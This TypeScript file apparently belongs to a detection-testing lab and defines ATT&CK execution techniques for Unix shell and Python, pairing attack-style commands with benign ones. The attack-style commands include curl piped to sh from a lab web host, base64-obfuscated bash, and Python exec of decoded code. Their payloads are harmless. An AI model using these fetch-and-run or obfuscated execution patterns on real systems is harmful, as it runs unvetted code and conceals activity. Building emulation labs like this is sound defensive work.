// Execution: shells and interpreters run the way intruders run them (T1059.004, T1059.006).
import type { Technique } from './types.js';
import { INTERNET } from '../technique-lab.js';

export const execution: Technique[] = [
  {
    id: 'T1059.004',
    name: 'Unix shell',
    tactic: 'execution',
    procedures: [
      { name: 'curl piped to sh', script: `curl -s http://${INTERNET.web}/install.sh | sh` },
      { name: 'base64 script into bash', script: `echo 'aWQ7IHVuYW1lIC1hCg==' | base64 -d | bash` },
      { name: 'bash -c of a $(base64 --decode) substitution', script: `bash -c "$(printf %s aWQ7IGhvc3RuYW1lCg== | base64 --decode)"` },
    ],
    benign: {
      name: 'run a local script',
      script: 'printf "#!/bin/sh\\necho ok\\n" > /usr/local/bin/hello && chmod 755 /usr/local/bin/hello && /usr/local/bin/hello',
    },
  },
  {
    id: 'T1059.006',
    name: 'Python',
    tactic: 'execution',
    procedures: [
      { name: 'python -c with exec of decoded code', script: `python3 -c 'import base64;exec(base64.b64decode("cHJpbnQoMSk="))'` },
      { name: 'python pty spawn', script: `python3 -c 'import pty;pty.spawn("/bin/true")'` },
    ],
    benign: { name: 'python script from a file', script: 'printf "print(2+2)\\n" > /root/calc.py && python3 /root/calc.py' },
  },
];
